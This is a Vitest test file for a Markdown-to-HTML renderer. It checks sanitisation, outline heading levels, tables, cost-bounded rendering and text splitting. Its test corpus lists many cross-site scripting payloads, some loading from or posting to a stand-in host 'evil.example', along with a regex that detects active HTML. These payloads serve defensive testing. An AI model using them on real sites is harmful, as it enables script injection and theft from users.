import { describe, expect, it } from "vitest";
import { contentMaxLength } from "./policy";
import { renderMarkdown } from "./render-markdown.mjs";
import { splitMarkdown } from "./split-markdown.mjs";

/** What makes a browser run, load or submit something, as an element, an attribute or an address. */
const active =
  /<(?!\/?(?:a|blockquote|br|code|del|div|em|h[2-6]|hr|li|ol|p|pre|section|span|strong|sup|table|tbody|td|th|thead|tr|ul)[\s>])|<[^>]*\s(?:on\w+|src|srcset|style|action|formaction|background|poster|data|xlink:href)\s*=/i;

function isActive(html: string): boolean {
  const addresses = [...html.matchAll(/\shref="([^"]*)"/g)].map(([, href = ""]) => href.replaceAll("&#x26;", "&"));
  const schemes = addresses.map((href) => new URL(href, "https://here.example").protocol);
  return active.test(html) || schemes.some((scheme) => !["http:", "https:", "mailto:"].includes(scheme));
}

const corpus = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "<style>@import '//evil.example'</style>",
  '<a href="javascript:alert(1)">x</a>',
  "<details open ontoggle=alert(1)>x</details>",
  "<form action=//evil.example><button>x</button></form>",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<!--><script>alert(1)</script>-->",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A&#x61;vascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.example/1)",
  '[x](https://a.example "onmouseover=alert(1) \\"x")',
  "[x][y]\n\n[y]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x](https://evil.example/pixel.gif)",
  "![x](//evil.example/pixel.gif)",
  '![" onerror="alert(1)](https://evil.example/x)',
  "![![x](https://evil.example/a)](https://evil.example/b)",
  "[![x](https://evil.example/a)](javascript:alert(1))",
  '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
  "```js\n</code></pre><script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <script>alert(1)</script> | ![x](https://evil.example/a) |\n|-|-|\n| [x](javascript:alert(1)) | <b onclick=alert(1)>x</b> |",
  "[^a]\n\n[^a]: <script>alert(1)</script> [x](javascript:alert(1))",
  '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
  "- [x] <input autofocus onfocus=alert(1)>",
  'https://evil.example/"onmouseover=alert(1)',
  `${">".repeat(5_000)}<script>alert(1)</script>`,
  `<script>${"a".repeat(25_000)}</script>`,
];

describe("Markdown as HTML", () => {
  it.each(corpus)("runs nothing and loads nothing: %s", (markdown) => {
    expect(isActive(renderMarkdown(markdown))).toBe(false);
  });

  it("would find each kind of what is active", () => {
    const alive = [
      "<script>",
      "<p onclick=x>",
      '<a href="javascript:x">',
      '<a href="data:x">',
      "<svg/onload=x>",
      "<img>",
    ];
    expect(alive.filter((html) => !isActive(html))).toEqual([]);
  });

  it("marks every link as a stranger's and links to pictures in place of loading them", () => {
    expect(renderMarkdown("[a](https://a.example) ![A cat](https://b.example/cat.png)")).toBe(
      '<p><a href="https://a.example" rel="nofollow ugc noopener">a</a> ' +
        '<a href="https://b.example/cat.png" rel="nofollow ugc noopener">A cat</a></p>',
    );
  });

  it("leaves the first heading to the title, and colours code", () => {
    expect(renderMarkdown("# On keys\n\n```js\nconst a = 1;\n```")).toMatch(
      /^<h2>On keys<\/h2>\n<pre tabindex="0"><code class="hljs language-js"><span class="hljs-keyword">const</,
    );
  });

  it("writes tables, lists to tick and struck words", () => {
    const html = renderMarkdown("~~old~~\n\n- [x] done\n- [ ] open\n\n| a |\n|-|\n| b |");
    expect(html).toContain("<del>old</del>");
    expect(html).toMatch(/☑<\/span> done[\s\S]*☐<\/span> open/);
    expect(html).toMatch(/<div class="table-scroll" tabindex="0"><table>/);
  });

  it("shows what is nested deep, and what is long without a paragraph, as it was typed", () => {
    expect(renderMarkdown(`${">".repeat(60)} <b>`)).toBe(`<pre tabindex="0">${"&#62;".repeat(60)} &#60;b&#62;</pre>`);
    expect(renderMarkdown("*a ".repeat(10_000))).toMatch(/^<pre tabindex="0">\*a/);
  });

  it("reads the longest text of ordinary paragraphs, lists and code as Markdown to its end", () => {
    const page = "A *word* and\nanother.\n\n- one\n\n- two\n\n```js\nlet a;\n\nlet b;\n```\n\nMore text.\n\n";
    const html = renderMarkdown(page.repeat(Math.floor(contentMaxLength / page.length)));
    expect(html).not.toContain("```");
    expect(html).not.toContain("*word*");
  });
});

describe("a text that is made to cost much", () => {
  const typed = /^<pre tabindex="0">/;

  it.each([
    [
      "a table of many columns, whose short rows are filled up",
      `${"|a".repeat(400)}|\n${"|-".repeat(400)}|\n${"a\n".repeat(500)}`,
    ],
    ["one long address with many references to it", `[a]: /${"x".repeat(2_000)}\n\n${"[a] ".repeat(500)}`],
    ["one footnote with many references to it", `[^a]: x\n\n${"[^a]".repeat(1_000)}`],
    ["prose without a paragraph, behind a block of code", `\`\`\`\na\n\`\`\`\n${"a\n=\n".repeat(2_000)}`],
  ])("is shown as it was typed: %s", (_, markdown) => {
    expect(renderMarkdown(markdown)).toMatch(typed);
    expect(renderMarkdown(markdown).length).toBeLessThan(2 * markdown.length);
  });

  it("stays code where it is long code, without colours", () => {
    const html = renderMarkdown(`\`\`\`js\n${"const a = 1;\n".repeat(1_000)}\`\`\``);
    expect(html).toMatch(/^<pre tabindex="0"><code>const a = 1;/);
    expect(renderMarkdown(`\`\`\`markdown\n${"[a](".repeat(500)}\n\`\`\``)).not.toContain("<span");
  });

  it("carries no titles, which a definition would repeat with each reference", () => {
    expect(renderMarkdown('[a](/b "A title") ![c](https://d.example/e "Another")')).not.toContain("itle");
  });
});

describe("a text taken apart", () => {
  it("is whole when it is put together again, and never cut within code or a list", () => {
    const text = `${"word ".repeat(900)}\n\n\`\`\`\n${"code\n\n".repeat(900)}\`\`\`\n\n- a\n\n- b\n\nAnd on.`;
    const parts = splitMarkdown(text);
    expect(parts.join("\n")).toBe(text);
    expect(parts).toHaveLength(3);
    expect(parts[2]).toBe("And on.");
  });
});

describe("headings", () => {
  const levels = (markdown: string) =>
    [...renderMarkdown(markdown).matchAll(/<h(\d)[^>]*>/g)].map(([, level]) => level);

  it.each([
    ["## Why\n\n### How\n\n## What", ["2", "3", "2"]],
    ["#### Deep\n\n###### Deeper\n\n# High\n\n##### Low", ["2", "3", "2", "3"]],
    ["# A\n\n## B\n\n### C\n\n#### D\n\n##### E\n\n###### F", ["2", "3", "4", "5", "6", "6"]],
  ])("of %j are an outline that skips no level", (markdown, expected) => {
    expect(levels(markdown)).toEqual(expected);
  });

  it("are numbered through a text of several parts, and end as they begin", () => {
    const long = `# A\n\n${"Words. ".repeat(800)}\n\nMore.\n\n### B\n\n\`<h5>\` \\<h4>`;
    expect(levels(long)).toEqual(["2", "3"]);
    expect(renderMarkdown(long)).toMatch(/<h3>B<\/h3>/);
  });
});
